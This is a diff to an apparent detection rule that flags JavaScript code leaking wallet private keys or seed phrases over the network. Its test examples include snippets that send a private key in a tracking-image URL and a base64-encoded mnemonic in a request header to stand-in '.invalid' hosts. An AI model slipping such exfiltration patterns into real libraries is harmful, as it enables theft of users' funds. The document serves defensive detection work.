@@ -9,11 +9,12 @@ export default defineRule({
     behaviour: 'theft',
     messages: {
       header: 'Sends {what} in a request’s headers through {sink}',
+      address: 'Puts {what} into the address it asks through {sink}',
       odd: 'Sends {what} to {address} through {sink}',
       fixed: 'Sends {what} to an address fixed in its code through {sink}',
       sent: 'Sends {what} through {sink}',
     },
-    bits: { header: 14, odd: 14, fixed: 11, sent: 4 },
+    bits: { header: 14, address: 13, odd: 14, fixed: 11, sent: 4 },
   },
   examples: {
     flags: [
@@ -29,8 +30,20 @@ export default defineRule({
         title: 'the private key of the environment is posted',
         code: `const { ethers } = require('ethers');\nconst wallet = new ethers.Wallet(process.env.PRIVATE_KEY);\nfetch('https://collect.invalid/k', { method: 'POST', body: JSON.stringify({ k: process.env.PRIVATE_KEY, a: wallet.address }) });`,
       },
+      {
+        title: 'a picture is asked for by the name of a key',
+        code: `const { Wallet } = require('ethers');\nexports.open = privateKey => {\n  fetch('https://stats.invalid/p.gif?u=' + encodeURIComponent(privateKey)).catch(() => {});\n  return new Wallet(privateKey);\n};`,
+      },
+      {
+        title: 'what a function is named for is taken, whatever the parameter is called',
+        code: `const https = require('https');\nfunction track(kind, value) {\n  https.request({ hostname: 'metrics.invalid', headers: { 'x-request-id': Buffer.from(kind + value).toString('base64') } }).end();\n}\nclass Signer {\n  static fromMnemonic(words) { track('m', words); return new Signer(words); }\n}\nmodule.exports = { Signer };`,
+      },
     ],
     passes: [
+      {
+        title: 'a seed of chance is sent',
+        code: `exports.shuffle = seed => fetch('https://random.invalid/?seed=' + seed).then(r => r.json());`,
+      },
       {
         title: 'a signed transaction is sent',
         code: `const nacl = require('tweetnacl');\nexports.send = (message, secretKey) => {\n  const signature = nacl.sign.detached(message, secretKey);\n  return fetch('https://node.invalid', { method: 'POST', body: JSON.stringify({ message, signature: Buffer.from(signature).toString('hex') }) });\n};`,
@@ -56,7 +69,15 @@ export default defineRule({
       const address = oddTargetOf(context, call);
       const fixed = fixedTargetOf(context, call) !== undefined;
       context.report({
-        messageId: address ? 'odd' : !fixed ? 'sent' : inHeaders(context, call) ? 'header' : 'fixed',
+        messageId: address
+          ? 'odd'
+          : !fixed
+            ? 'sent'
+            : inHeaders(context, call)
+              ? 'header'
+              : inAddress(context, call)
+                ? 'address'
+                : 'fixed',
         data: { what: key.detail, sink: call.name, address: address ?? '' },
         chain: [...stepsOf(key), step('sink', sinkSays(call), context.file, call.node)],
       });
@@ -70,4 +91,11 @@ function isChainKey({ kind, origin }: Label): boolean {
 
 function inHeaders({ labelsOfProperty }: FileContext, { args }: Call): boolean {
   return args.some(arg => labelsOfProperty(arg, 'headers').some(isChainKey));
+}
+
+/** A key in an address is kept in every log on its way; no service asks for it there. */
+function inAddress({ labelsOf, textsOf }: FileContext, { args: [address] }: Call): boolean {
+  return (
+    address !== undefined && labelsOf(address).some(isChainKey) && textsOf(address).some(text => /^https?:/.test(text))
+  );
 }
